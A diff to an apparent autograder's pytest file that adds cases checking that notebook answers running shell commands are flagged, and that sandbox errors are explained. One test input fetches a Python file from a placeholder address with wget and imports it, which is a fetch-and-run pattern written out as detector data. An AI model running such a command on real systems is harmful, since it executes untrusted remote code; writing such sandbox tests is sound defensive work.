@@ -13,9 +13,11 @@ import pytest
 from grader import submission
 from grader.curriculum import stubs
 from grader.feedback.finding import Status
+from grader.judging import cell_report
 from grader.judging.judge import Judge
 from grader.judging.places import located
 from grader.judging.recording import Recordings
+from grader.remote.session import CellNote, CellNotes
 from grader.report.results import ExerciseResult
 from grader.sandbox.host import Host
 from grader.submission import Submission
@@ -124,6 +126,13 @@ def test_an_answer_below_its_tests_is_told(judge: Judge) -> None:
     [
         ("listing = !cat size.txt\nsize = float(listing.n or 0)", "line 1: no command is run"),
         ("import os\nsize = float(os.popen('id -u').read() or 0)", "line 2: no command is run"),
+        ("!echo 'size = 2' > size.py\nfrom size import size", "line 1: no command is run"),
+        ("!wget -q https://192.0.2.1/x.py\nimport x as size", "line 1: no command is run"),
+        (
+            "from subprocess import PIPE, Popen\nwith Popen(['ls'], stdout=PIPE, text=True) as p:\n"
+            "    size = float(p.communicate()[0] or 0) + p.wait()",
+            "line 2: no command is run",
+        ),
         ("%%bash --out listing\necho 2", "line 1: no command is run"),
         ("import pandas\nsize = float(pandas.read_csv('sizes')['d'].mean())", "line 2: pandas is"),
     ],
@@ -162,6 +171,17 @@ def test_a_notebook_may_train_the_capstone(judge: Judge) -> None:
     assert graded(judge, "masks", cell, right, code("", "masks-points")).points == 10
     own = Cell("code", f"translate = %capstone\n{''.join(MASKS)}", "masks")
     assert graded(judge, "masks", own, code("", "masks-points")).points == 10
+
+
+def test_what_the_sandbox_keeps_from_an_answer_is_told() -> None:
+    notes = [CellNote(0, 1, "error", text) for text in (
+        "PermissionError: [Errno 1] Operation not permitted",  # socket.socket()
+        "FileNotFoundError: [Errno 2] No such file or directory",  # multiprocessing.Pool()
+        "FileNotFoundError: [Errno 2] No such file or directory: 'sizes.txt'",
+    )]  # fmt: skip
+    stood = layout([code("import socket\n" + "".join(MASKS), "masks"), code("", "masks-points")])
+    told = [cell_report.report("masks", CellNotes((note,)), stood, passed=False) for note in notes]
+    assert ["other processes" in (one.headline if one else "") for one in told] == [1, 1, 0]
 
 
 def test_pylab_brings_the_names_of_numpy(judge: Judge) -> None:
